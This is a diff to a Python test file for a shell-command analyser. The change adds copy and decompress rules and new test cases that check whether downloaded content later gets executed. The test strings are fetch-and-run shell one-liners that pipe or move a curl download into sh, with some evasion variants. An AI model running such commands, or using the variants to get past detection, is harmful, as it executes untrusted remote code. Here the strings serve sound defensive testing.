@@ -13,11 +13,20 @@ FETCH = Program(
         Clause(effect="network.download", on="operands"),
     ),
 )
+COPIES = (
+    Program(
+        names=("mv", "cp"),
+        complete=True,
+        effects=(Clause(effect="read", on="but-last"), Clause(effect="write", on="last")),
+    ),
+    Program(names=("cat", "gunzip"), effects=(Clause(effect="read", on="operands"),)),
+    Program(names=("sh",), effects=(Clause(effect="execute.stdin", bare=True),)),
+)
 PYTHON = Program(names=("python",), effects=(Clause(effect=RUN_FILE, on="first"),))
 
 
 def runs_fetched(text: str) -> bool:
-    found = all_effects(extract(text), Knowledge([FETCH]))
+    found = all_effects(extract(text), Knowledge([FETCH, *COPIES]))
     return any(e.name == "execute.network" for _, alone in found for e in alone)
 
 
@@ -32,6 +41,12 @@ def runs_fetched(text: str) -> bool:
         "curl http://h/x > z; sh -eo pipefail z",
         "curl http://h/x > z; sh < z",
         "curl http://h/x | gunzip | tee -a /dev/shm/z; . /dev/shm/z",
+        "{ echo; curl http://h/x; } > z; sh z",
+        "if true; then curl http://h/x; fi > z; sh z",
+        "curl http://h/x > z; mv z y; cp y w; sh w",
+        "curl http://h/x > z; cat z | gunzip > y; sh y",
+        "curl http://h/z.gz > z.gz; gunzip z.gz; sh z",
+        "curl http://h/x > z; cat z | sh",
     ],
 )
 def test_running_what_was_fetched_is_an_effect(text):
@@ -68,6 +83,9 @@ def test_what_is_piped_into_itself_is_a_bomb(text, is_bomb):
         "wget http://h/data.tar; bash x.sh data.tar",
         "curl http://h/x > /dev/null 2>&1; bash 1; bash null",
         "curl http://h/x; ls > z; sh z",
+        "curl http://h/x > z; { ls; } > y; sh y",
+        "curl http://h/x > z; mv w y; sh y",
+        "curl http://h/x > z; cat w | sh",
     ],
 )
 def test_other_files_are_not(text):
